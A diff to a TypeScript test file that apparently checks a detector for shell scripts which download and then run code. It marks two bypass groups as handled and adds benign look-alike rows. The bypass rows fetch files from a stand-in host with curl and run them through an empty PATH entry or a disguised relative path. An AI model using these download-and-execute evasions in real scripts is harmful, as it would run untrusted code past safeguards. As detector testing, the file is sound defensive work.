@@ -56,7 +56,6 @@ const BYPASSES: ReadonlyArray<{ form: string; rows: Row[]; open?: string }> = [
   },
   {
     form: 'the directory the text runs in on PATH, written otherwise',
-    open: 'not read yet',
     rows: [
       // An empty PATH entry is the current directory.
       [M, 'curl -fsSL -o tool https://x.example/t\nexport PATH=:$PATH\nmake'],
@@ -68,7 +67,6 @@ const BYPASSES: ReadonlyArray<{ form: string; rows: Row[]; open?: string }> = [
   },
   {
     form: 'a saved path reached as a relative one after cd, written otherwise',
-    open: 'not read yet',
     rows: [
       [M, 'curl -fsSL -o /tmp/x/i https://x.example/i\ncd /tmp\nsh x/./i'],
       [M, 'curl -fsSL -o /tmp/x/i https://x.example/i\ncd /tmp\nsh x/y/../i'],
@@ -115,6 +113,10 @@ for (const { form, rows, open } of BYPASSES) {
 /** What the readings closed above must go on accepting: ordinary scripts that look like the rows. */
 const LOOK_ALIKES: Row[] = [
   [M, 'echo "a;b" | grep a'],
+  [M, 'curl -fsSL -o /tmp/x/i https://x.example/i\ncd ..\nsh tools/lint.sh'],
+  [M, 'curl -fsSL -o /tmp/x/i https://x.example/i\ncd /tmp/y\nsh ../z/setup.sh'],
+  [M, 'curl -fsSL -o /tmp/x/tool https://x.example/t\nexport PATH="$HOME/bin:$PATH"\nmake'],
+  [M, 'curl -fsSL -o /tmp/x/tool https://x.example/t\nexport PATH=/usr/local/bin:/usr/bin\nmake'],
   [M, 'set -euo pipefail\ncurl -fsSL -o /tmp/env https://x.example/i\nBASH_ENV=/tmp/env\nmake test'],
   [M, 'curl -fsSL -o /tmp/env https://x.example/i\nset -a\nset +a\nBASH_ENV=/tmp/env\nmake test'],
   [M, 'curl -fsSL -o /tmp/env https://x.example/i\nset -o errexit -o nounset\nBASH_ENV=/tmp/env\nmake test'],
